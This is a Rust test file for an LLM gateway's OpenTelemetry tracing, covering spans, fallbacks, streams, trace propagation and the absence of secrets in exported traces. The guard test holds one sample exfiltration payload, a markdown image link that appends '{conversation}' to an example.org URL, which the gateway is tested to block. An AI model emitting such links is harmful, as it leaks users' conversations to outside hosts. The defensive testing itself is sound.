//! A gateway that is asked for traces tells a collector of every request and
//! of every call that it made, and nothing of what was said.

#![allow(clippy::unwrap_used, reason = "a panic is how a test fails")]

mod gateway;

use std::net::SocketAddr;
use std::time::Duration;

use gateway::{
    CANARY, Call, Collector, PATIENCE, Program, Scene, Stage, ask, attribute, cached, chat, get,
    pair, post, request, start_mock, stream, with,
};
use opentelemetry_proto::tonic::trace::v1::Span;
use opentelemetry_proto::tonic::trace::v1::span::SpanKind;
use serde_json::{Value, json};
use tidegate_engine::mock::Script;
use tokio::task::JoinSet;

const PROVIDER_KEY: &str = "sk-canary-of-the-provider";
const COLLECTOR_KEY: &str = "canary-of-the-collector";
const LATEST: (&str, &str) = (
    "OTEL_SEMCONV_STABILITY_OPT_IN",
    "gen_ai_latest_experimental",
);

/// A gateway before `upstream`; nobody listens at `gone`.
fn config(upstream: SocketAddr, chain: &[&str]) -> String {
    let chain: Vec<_> = chain.iter().map(|entry| format!("{entry:?}")).collect();
    format!(
        "server.bind = \"127.0.0.1:0\"\nserver.drain_ms = 20000\nresilience.backoff_ms.retries = 0\n\
         [[providers]]\nname = \"up\"\nkind = \"openai\"\nbase_url = \"http://{upstream}/v1\"\n\
         api_key = \"env:UP_KEY\"\n\
         [[providers]]\nname = \"gone\"\nkind = \"openai\"\nbase_url = \"http://127.0.0.1:1/v1\"\n\
         [[models]]\nname = \"m\"\nchain = [{}]\n",
        chain.join(", ")
    )
}

/// What a story plays in.
struct Scenery {
    program: Program,
    collector: Collector,
    _tasks: JoinSet<()>,
}

impl Scenery {
    async fn set(chain: &[&str], env: &[(&str, &str)]) -> Self {
        let mut tasks = JoinSet::new();
        let script = Script {
            event_gap: Duration::from_millis(1),
            events: 3,
            ..Script::default()
        };
        let upstream = start_mock(script, &mut tasks).await;
        let collector = Collector::open().await;
        let program = traced(&config(upstream, chain), &collector.endpoint(), env).await;
        Self {
            program,
            collector,
            _tasks: tasks,
        }
    }

    async fn ask(&self, body: &Value) -> gateway::Reply {
        ask(self.program.addr, &post("/v1/chat/completions", body)).await
    }
}

async fn traced(config: &str, endpoint: &str, env: &[(&str, &str)]) -> Program {
    let mut all = vec![
        ("OTEL_EXPORTER_OTLP_ENDPOINT", endpoint),
        ("OTEL_BSP_SCHEDULE_DELAY", "20"),
        ("UP_KEY", PROVIDER_KEY),
    ];
    all.extend(env);
    Program::serve(config, &all).await.expect("it starts")
}

fn is_request(span: &Span) -> bool {
    span.kind() == SpanKind::Server
}

/// The spans of one request, and those of its calls in their order.
#[track_caller]
fn split(spans: Vec<Span>) -> (Span, Vec<Span>) {
    let (mut requests, calls): (Vec<_>, Vec<_>) = spans.into_iter().partition(is_request);
    assert_eq!(requests.len(), 1, "{requests:#?}");
    (requests.remove(0), calls)
}

/// Waits until the log holds a text; it is written in batches.
async fn until_said(program: &Program, text: &str) {
    let said = async {
        while !program.said().contains(text) {
            tokio::task::yield_now().await;
        }
    };
    let said = tokio::time::timeout(PATIENCE, said).await;
    said.unwrap_or_else(|_| panic!("no {text:?} in {}", program.said()));
}

#[track_caller]
fn check(span: &Span, name: &str, expected: &str) {
    let found = attribute(span, name);
    assert_eq!(found.as_deref(), Some(expected), "{name} of {span:#?}");
}

#[tokio::test]
async fn a_chat_is_a_request_and_a_call() {
    let scene = Scenery::set(&["up/answer"], &[]).await;
    let reply = scene.ask(&chat("m")).await;
    assert_eq!(reply.status, 200);
    let (request, calls) = split(scene.collector.until(2).await);
    assert_eq!(request.name, "POST /v1/chat/completions");
    assert!(request.parent_span_id.is_empty());
    check(&request, "http.request.method", "POST");
    check(&request, "http.route", "/v1/chat/completions");
    check(&request, "http.response.status_code", "200");
    check(
        &request,
        "tidegate.request_id",
        reply.header("x-request-id").unwrap(),
    );
    check(&request, "tidegate.tenant", "@local");
    let [call] = &*calls else {
        panic!("{calls:#?}")
    };
    assert_eq!(call.name, "chat answer");
    assert_eq!(call.kind(), SpanKind::Client);
    assert_eq!(call.parent_span_id, request.span_id);
    assert_eq!(call.trace_id, request.trace_id);
    assert!(call.start_time_unix_nano >= request.start_time_unix_nano);
    assert!(call.end_time_unix_nano <= request.end_time_unix_nano);
    let post = scene.collector.posts().remove(0);
    assert!(post.head.starts_with("post /v1/traces "), "{}", post.head);
    let endpoint = scene.collector.endpoint();
    until_said(
        &scene.program,
        &format!("traces go to {endpoint}/v1/traces"),
    )
    .await;
}

#[tokio::test]
async fn a_request_that_names_a_prompt_says_which_and_not_what_it_was_filled_with() {
    let scene = Scenery::set(&["up/answer"], &[]).await;
    let prompt = json!({"name": "chat", "parameters": {"question": CANARY}});
    let asked = with(chat("m"), "tidegate", json!({"prompt": prompt}));
    assert_eq!(scene.ask(&asked).await.status, 200);
    let (request, calls) = split(scene.collector.until(2).await);
    check(&request, "tidegate.prompt", "chat@1.0.0/base");
    assert!(!format!("{request:?}{calls:?}").contains(CANARY));
}

/// All that one span says, without what differs from run to run.
fn shown(span: &Span) -> String {
    let differs = |name: &str| {
        matches!(
            name,
            "tidegate.request_id"
                | "server.port"
                | "tidegate.overhead_ms"
                | "gen_ai.response.time_to_first_chunk"
        )
    };
    let mut lines = vec![format!("{} ({:?})", span.name, span.kind())];
    lines.extend(span.attributes.iter().map(|attribute| {
        if differs(&attribute.key) {
            format!("  {} = …", attribute.key)
        } else {
            format!("  {}", pair(attribute))
        }
    }));
    lines.join("\n")
}

#[tokio::test]
async fn a_trace_reads_the_same_in_both_profiles_but_for_its_names() {
    for (profile, env) in [("v1_36", &[][..]), ("latest", &[LATEST])] {
        let scene = Scenery::set(&["gone/x", "up/answer"], env).await;
        let reply = scene.ask(&stream("m")).await;
        assert_eq!(reply.status, 200);
        let spans = scene.collector.until(3).await;
        let text: Vec<_> = spans.iter().map(shown).collect();
        insta::assert_snapshot!(format!("trace_{profile}"), text.join("\n"));
    }
}

#[tokio::test]
async fn a_fallback_is_two_calls_and_the_first_one_says_what_went_wrong() {
    let scene = Scenery::set(&["gone/x", "up/answer"], &[LATEST]).await;
    assert_eq!(scene.ask(&chat("m")).await.status, 200);
    let (request, calls) = split(scene.collector.until(3).await);
    check(&request, "tidegate.attempts", "2");
    check(&request, "tidegate.degraded", "[fallback:up/answer]");
    let [first, second] = &*calls else {
        panic!("{calls:#?}")
    };
    check(first, "gen_ai.provider.name", "gone");
    check(first, "error.type", "connect");
    check(second, "gen_ai.provider.name", "up");
    assert_eq!(attribute(second, "error.type"), None);
    assert!(attribute(second, "gen_ai.usage.input_tokens").is_some());
}

#[tokio::test]
async fn a_request_that_fails_keeps_its_calls() {
    let scene = Scenery::set(&["gone/x"], &[]).await;
    let reply = scene.ask(&chat("m")).await;
    assert_eq!(reply.status, 502);
    let (request, calls) = split(scene.collector.until(2).await);
    check(&request, "error.type", "upstream_connect");
    check(&request, "http.response.status_code", "502");
    check(&request, "tidegate.attempts", "1");
    assert!(attribute(&request, "tidegate.overhead_ms").is_some());
    check(&calls[0], "error.type", "connect");
}

#[tokio::test]
async fn an_answer_from_the_cache_makes_no_call() {
    let scene = Scenery::set(&["up/answer"], &[]).await;
    for _ in 0..2 {
        scene.ask(&cached(chat("m"), "use")).await;
    }
    let spans = scene.collector.until(3).await;
    let requests: Vec<_> = spans.iter().filter(|span| is_request(span)).collect();
    check(requests[0], "tidegate.cache", "miss");
    check(requests[1], "tidegate.cache", "hit");
    check(requests[1], "tidegate.attempts", "0");
    assert_eq!(spans.len(), 3);
}

const PIECE: &str = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"tide\"}}]}\n\n";
const USAGE: &str = "data: {\"choices\":[],\"usage\":{\"prompt_tokens\":7,\"completion_tokens\":3,\"total_tokens\":10}}\n\n";

#[tokio::test]
async fn a_stream_ends_its_spans_when_it_ends_and_tells_what_was_used() {
    let end = "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n";
    let events = format!("{PIECE}{end}{USAGE}data: [DONE]\n\n");
    let stage = Stage::open(vec![Scene::events(&events)]).await;
    let collector = Collector::open().await;
    let config = config(stage.addr, &["up/x"]);
    let program = traced(&config, &collector.endpoint(), &[]).await;
    let reply = ask(program.addr, &post("/v1/chat/completions", &stream("m"))).await;
    assert_eq!(reply.events().last().map(String::as_str), Some("[DONE]"));
    let (request, calls) = split(collector.until(2).await);
    assert_eq!(calls[0].end_time_unix_nano, request.end_time_unix_nano);
    check(&calls[0], "gen_ai.usage.input_tokens", "7");
    check(&calls[0], "gen_ai.usage.output_tokens", "3");
    assert_eq!(attribute(&request, "tidegate.ending"), None);
}

#[tokio::test]
async fn a_stream_that_breaks_says_so_in_both_spans() {
    let stage = Stage::open(vec![Scene::events(PIECE)]).await;
    let collector = Collector::open().await;
    let program = traced(&config(stage.addr, &["up/x"]), &collector.endpoint(), &[]).await;
    ask(program.addr, &post("/v1/chat/completions", &stream("m"))).await;
    let (request, calls) = split(collector.until(2).await);
    check(&request, "tidegate.ending", "broken");
    check(&request, "error.type", "truncated");
    check(&calls[0], "error.type", "truncated");
}

#[tokio::test]
async fn a_stream_that_the_guard_blocks_is_recorded_as_blocked() {
    let leak = "see ![x](https://example.org/p.png?q={conversation}) there";
    let scene = Scene::streaming(&[json!({"content": "tide"}), json!({"content": leak})]);
    let stage = Stage::open(vec![scene]).await;
    let collector = Collector::open().await;
    let config = format!("log.access = true\n{}", config(stage.addr, &["up/x"]));
    let program = traced(&config, &collector.endpoint(), &[]).await;
    let reply = ask(program.addr, &post("/v1/chat/completions", &stream("m"))).await;
    assert_eq!(reply.status, 200);
    let (request, calls) = split(collector.until(2).await);
    check(&request, "tidegate.ending", "broken");
    check(&request, "error.type", "blocked_by_guard");
    check(&request, "tidegate.verdict", "block");
    // The upstream has done nothing wrong.
    check(&calls[0], "error.type", "abandoned");
    until_said(&program, "blocked_by_guard").await;
    let said = program.said();
    let line = said.lines().find(|line| line.contains("blocked_by_guard"));
    assert!(line.unwrap().contains("/v1/chat/completions"), "{said}");
}

#[tokio::test]
async fn a_client_that_hangs_up_is_recorded() {
    let stage = Stage::open(vec![Scene::events_without_end(PIECE)]).await;
    let collector = Collector::open().await;
    let program = traced(&config(stage.addr, &["up/x"]), &collector.endpoint(), &[]).await;
    let mut call = Call::open(program.addr, &post("/v1/chat/completions", &stream("m"))).await;
    call.until("tide").await;
    drop(call);
    let (request, calls) = split(collector.until(2).await);
    check(&request, "tidegate.ending", "client_left");
    check(&calls[0], "error.type", "abandoned");
}

#[tokio::test]
async fn a_client_that_hangs_up_before_the_answer_is_recorded() {
    let later = Scene::answer().after(PATIENCE);
    let stage = Stage::open(vec![later]).await;
    let collector = Collector::open().await;
    let program = traced(&config(stage.addr, &["up/x"]), &collector.endpoint(), &[]).await;
    let call = Call::open(program.addr, &post("/v1/chat/completions", &chat("m"))).await;
    while stage.seen().is_empty() {
        tokio::task::yield_now().await;
    }
    drop(call);
    let (request, calls) = split(collector.until(2).await);
    check(&request, "tidegate.ending", "client_left");
    check(&request, "tidegate.tenant", "@local");
    assert_eq!(attribute(&request, "http.response.status_code"), None);
    check(&calls[0], "error.type", "abandoned");
}

/// A chat that belongs to the caller's trace.
fn continued(traceparent: &str) -> Vec<u8> {
    let headers = format!(
        "content-type: application/json\r\ntraceparent: {traceparent}\r\ntracestate: a=1\r\n"
    );
    request(
        "POST /v1/chat/completions",
        &headers,
        chat("m").to_string().as_bytes(),
    )
}

#[tokio::test]
async fn the_callers_trace_is_continued() {
    const TRACE: &str = "4bf92f3577b34da6a3ce929d0e0e4736";
    let scene = Scenery::set(&["up/answer"], &[]).await;
    let addr = scene.program.addr;
    // Not sampled by the caller, so not by us.
    ask(addr, &continued(&format!("00-{TRACE}-00f067aa0ba902b7-00"))).await;
    ask(addr, &continued(&format!("00-{TRACE}-00f067aa0ba902b7-01"))).await;
    let (request, calls) = split(scene.collector.until(2).await);
    let hex = |bytes: &[u8]| {
        bytes
            .iter()
            .map(|byte| format!("{byte:02x}"))
            .collect::<String>()
    };
    assert_eq!(hex(&request.trace_id), TRACE);
    assert_eq!(hex(&request.parent_span_id), "00f067aa0ba902b7");
    assert_eq!(request.trace_state, "a=1");
    assert_eq!(hex(&calls[0].trace_id), TRACE);
    let logged = format!("\"trace_id\":\"{TRACE}\"");
    scene.program.terminate().await;
    let (_, said) = scene.program.ended().await;
    assert_eq!(said.matches(&logged).count(), 1, "{said}");
}

#[tokio::test]
async fn a_malformed_parent_begins_a_trace_of_its_own() {
    let scene = Scenery::set(&["up/answer"], &[]).await;
    ask(scene.program.addr, &continued("00-zz-00f067aa0ba902b7-01")).await;
    let (request, _) = split(scene.collector.until(2).await);
    assert!(request.parent_span_id.is_empty());
}

#[tokio::test]
async fn a_sampler_that_is_off_sends_nothing() {
    let scene = Scenery::set(&["up/answer"], &[("OTEL_TRACES_SAMPLER", "always_off")]).await;
    assert_eq!(scene.ask(&chat("m")).await.status, 200);
    scene.program.terminate().await;
    let (status, said) = scene.program.ended().await;
    assert!(status.success(), "{said}");
    assert!(scene.collector.posts().is_empty());
}

#[tokio::test]
async fn probes_and_scrapes_make_no_spans() {
    let scene = Scenery::set(&["up/answer"], &[]).await;
    for path in [
        "/health/live",
        "/health/ready",
        "/metrics",
        "/v1/models",
        "/nowhere",
    ] {
        ask(scene.program.addr, &get(path)).await;
    }
    let spans = scene.collector.until(2).await;
    let names: Vec<_> = spans.iter().map(|span| &*span.name).collect();
    assert_eq!(names, ["GET /v1/models", "GET"]);
}

#[tokio::test]
async fn what_is_left_at_the_end_is_sent_before_the_program_ends() {
    let never = ("OTEL_BSP_SCHEDULE_DELAY", "600000");
    let scene = Scenery::set(&["up/answer"], &[never]).await;
    scene.ask(&chat("m")).await;
    assert!(scene.collector.posts().is_empty());
    scene.program.terminate().await;
    let (status, said) = scene.program.ended().await;
    assert!(status.success(), "{said}");
    assert_eq!(scene.collector.spans().len(), 2);
    let resource: Vec<_> = scene.collector.resource().iter().map(pair).collect();
    assert!(
        resource.contains(&"service.name = tidegate".to_owned()),
        "{resource:?}"
    );
}

/// Waits until `/metrics` holds a line.
async fn until_metric(program: &Program, line: &str) {
    let seen = async {
        while !ask(program.addr, &get("/metrics"))
            .await
            .text()
            .contains(line)
        {
            tokio::task::yield_now().await;
        }
    };
    let seen = tokio::time::timeout(PATIENCE, seen).await;
    seen.unwrap_or_else(|_| panic!("no {line}; {}", program.said()));
}

#[tokio::test]
async fn a_collector_that_refuses_is_logged_once_and_harms_nobody() {
    let mut tasks = JoinSet::new();
    let upstream = start_mock(Script::default(), &mut tasks).await;
    let collector = Collector::at(([127, 0, 0, 1], 0).into(), 401).await;
    let config = config(upstream, &["up/answer"]);
    let program = traced(&config, &collector.endpoint(), &[]).await;
    for count in [2, 4, 6] {
        let reply = ask(program.addr, &post("/v1/chat/completions", &chat("m"))).await;
        assert_eq!(reply.status, 200);
        let line = format!("tidegate_trace_spans_total{{outcome=\"failed\"}} {count}\n");
        until_metric(&program, &line).await;
    }
    program.terminate().await;
    let (status, said) = program.ended().await;
    assert!(status.success(), "{said}");
    assert_eq!(said.matches("traces do not arrive at").count(), 1, "{said}");
}

#[tokio::test]
async fn a_collector_that_is_down_holds_no_request_up() {
    let mut tasks = JoinSet::new();
    let upstream = start_mock(Script::default(), &mut tasks).await;
    // It takes connections and never answers.
    let silent = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let endpoint = format!("http://{}", silent.local_addr().unwrap());
    let small = [
        ("OTEL_BSP_MAX_QUEUE_SIZE", "4"),
        ("OTEL_BSP_MAX_EXPORT_BATCH_SIZE", "2"),
        ("OTEL_EXPORTER_OTLP_TIMEOUT", "600000"),
        ("OTEL_BSP_EXPORT_TIMEOUT", "600000"),
    ];
    let program = traced(&config(upstream, &["up/answer"]), &endpoint, &small).await;
    for _ in 0..5 {
        let reply = ask(program.addr, &post("/v1/chat/completions", &chat("m"))).await;
        assert_eq!(reply.status, 200);
    }
    let line = "tidegate_trace_spans_total{outcome=\"dropped\"} 6\n";
    until_metric(&program, line).await;
    until_said(&program, "4 spans wait for export").await;
    assert_eq!(program.said().matches("spans wait for export").count(), 1);
}

#[tokio::test]
async fn neither_prompts_nor_answers_nor_keys_leave_with_the_spans() {
    let canaries = [
        "canary-of-the-prompt",
        "canary-of-the-caller",
        PROVIDER_KEY,
        COLLECTOR_KEY,
    ];
    let header = format!("authorization=Bearer%20{COLLECTOR_KEY}");
    let env = [("OTEL_EXPORTER_OTLP_HEADERS", &*header), LATEST];
    let scene = Scenery::set(&["gone/x", "up/answer"], &env).await;
    let body = json!({
        "model": "m",
        "user": canaries[0],
        "messages": [{"role": "user", "content": canaries[0]}],
    });
    let headers = format!(
        "content-type: application/json\r\nauthorization: Bearer {}\r\nbaggage: a={}\r\n",
        canaries[1], canaries[0]
    );
    for stream in [false, true] {
        let body = gateway::with(body.clone(), "stream", stream).to_string();
        let raw = request(
            &format!("POST /v1/chat/completions?q={}", canaries[0]),
            &headers,
            body.as_bytes(),
        );
        assert_eq!(ask(scene.program.addr, &raw).await.status, 200);
    }
    let lost = format!("GET /{}", canaries[0]);
    ask(scene.program.addr, &request(&lost, &headers, b"")).await;
    scene.collector.until(7).await;
    for post in scene.collector.posts() {
        assert!(post.head.contains(COLLECTOR_KEY), "{}", post.head);
        let text = String::from_utf8_lossy(&post.body).into_owned();
        for canary in canaries {
            assert!(!text.contains(canary), "{canary} in {text}");
        }
    }
    scene.program.terminate().await;
    let (_, said) = scene.program.ended().await;
    for canary in canaries {
        assert!(!said.contains(canary), "{canary} in {said}");
    }
}

#[tokio::test]
async fn a_wrong_variable_is_a_warning_and_no_more() {
    let scene = Scenery::set(&["up/answer"], &[("OTEL_EXPORTER_OTLP_PROTOCOL", "grpc")]).await;
    assert_eq!(scene.ask(&chat("m")).await.status, 200);
    let warning = "OTEL_EXPORTER_OTLP_PROTOCOL: only http/protobuf is supported";
    until_said(&scene.program, warning).await;
}

#[tokio::test]
async fn the_overhead_leaves_out_what_the_upstream_took() {
    let mut tasks = JoinSet::new();
    let upstream = start_mock(Script::default(), &mut tasks).await;
    for (model, status) in [("slow-50", 200), ("gone", 502)] {
        let chain = if model == "gone" {
            "gone/x"
        } else {
            "up/slow-50"
        };
        let program = Program::serve(&config(upstream, &[chain]), &[("UP_KEY", PROVIDER_KEY)])
            .await
            .unwrap();
        let began = std::time::Instant::now();
        let reply = ask(program.addr, &post("/v1/chat/completions", &chat("m"))).await;
        let total = began.elapsed().as_secs_f64() * 1e3;
        assert_eq!(reply.status, status);
        assert_eq!(reply.header("x-tidegate-attempts"), Some("1"));
        let overhead = reply.header("x-tidegate-overhead-ms").expect("an overhead");
        let overhead: f64 = overhead.parse().unwrap();
        let upstream = if status == 200 { 50.0 } else { 0.0 };
        assert!(overhead < total - upstream, "{overhead} of {total}");
    }
    let program = Program::serve(&config(upstream, &["up/x"]), &[("UP_KEY", PROVIDER_KEY)])
        .await
        .unwrap();
    let reply = ask(
        program.addr,
        &post("/v1/chat/completions", &chat("unknown")),
    )
    .await;
    assert_eq!(
        reply.header("x-tidegate-overhead-ms"),
        None,
        "no call was made"
    );
}
